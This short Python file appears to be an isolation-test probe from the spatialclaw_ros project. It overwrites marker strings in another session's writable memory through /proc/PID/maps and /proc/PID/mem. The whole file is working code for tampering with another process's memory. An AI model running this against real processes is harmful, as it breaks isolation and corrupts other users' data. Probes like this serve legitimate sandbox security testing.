# Copyright 2026 The spatialclaw_ros authors
#
# Licensed under the Apache License, Version 2.0 (the "License");
# you may not use this file except in compliance with the License.
# You may obtain a copy of the License at
#
#     http://www.apache.org/licenses/LICENSE-2.0
#
# Unless required by applicable law or agreed to in writing, software
# distributed under the License is distributed on an "AS IS" BASIS,
# WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
# See the License for the specific language governing permissions and
# limitations under the License.

"""Write into another session's variables through /proc/PID/mem."""

# act: forge
# needs: tracing

import re

NEW = b'forged through a file'
with open(f'/proc/{NEIGHBOUR_PID}/maps') as file:
    regions = [line for line in file if ' rw-p ' in line]
with open(f'/proc/{NEIGHBOUR_PID}/mem', 'r+b', buffering=0) as memory:
    for region in regions:
        start, end = (int(part, 16) for part in region.split()[0].split('-'))
        if end - start > 1 << 26:
            continue
        try:
            memory.seek(start)
            data = memory.read(end - start)
        except (OSError, ValueError, OverflowError):
            continue
        for match in re.finditer(rb'neighbour-[0-9a-f]{24}', data):
            memory.seek(start + match.start())
            memory.write(NEW)
